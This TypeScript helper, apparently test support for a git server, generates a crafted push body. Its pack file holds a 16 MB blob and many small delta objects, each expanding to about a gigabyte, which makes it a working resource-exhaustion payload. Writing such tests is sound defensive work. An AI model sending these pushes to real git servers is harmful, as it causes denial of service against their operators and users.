import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const MISSING = '0'.repeat(40);

/** The most bytes that one instruction of a delta copies. */
const COPIED = 0xffffff;

/**
 * Returns the body of a push whose pack has a blob of 16 MB, and deltas of it with 64 copies each. The body has some
 * 20 kB. Each delta stands for a gigabyte.
 */
export function hostilePush(deltas: number): Buffer {
  const base = Buffer.alloc(COPIED);
  const sha = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  const delta = Buffer.concat([
    variable(base.length),
    variable(64 * COPIED),
    ...Array(64).fill(Buffer.from([0xf0, 0xff, 0xff, 0xff])),
  ]);
  const objects = [
    Buffer.concat([header(BLOB, base.length), deflateSync(base)]),
    // A last byte makes each delta another object.
    ...Array.from({ length: deltas }, (_, number) => {
      const own = Buffer.concat([delta, Buffer.from([1, number])]);
      own.set(variable(64 * COPIED + 1), variable(base.length).length);
      return Buffer.concat([header(REF_DELTA, own.length), sha, deflateSync(own)]);
    }),
  ];
  const count = Buffer.alloc(12);
  count.write('PACK');
  count.writeUInt32BE(2, 4);
  count.writeUInt32BE(objects.length, 8);
  const pack = Buffer.concat([count, ...objects]);
  const command = `${MISSING} ${sha.toString('hex')} refs/heads/hostile\0report-status\n`;
  const length = (command.length + 4).toString(16).padStart(4, '0');
  const end = createHash('sha1').update(pack).digest();
  return Buffer.concat([Buffer.from(`${length}${command}0000`), pack, end]);
}

const BLOB = 3;
const REF_DELTA = 7;

/** Writes the type and the size of an object in a pack (git's `gitformat-pack`). */
function header(type: number, size: number): Buffer {
  const rest = size >> 4;
  const first = (type << 4) | (size & 15);
  return rest === 0
    ? Buffer.from([first])
    : Buffer.concat([Buffer.from([first | 128]), variable(rest)]);
}

/** Writes a number in pieces of seven bits, the lowest first. */
function variable(number: number): Buffer {
  const bytes: number[] = [];
  for (let rest = number; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 128);
  }
}
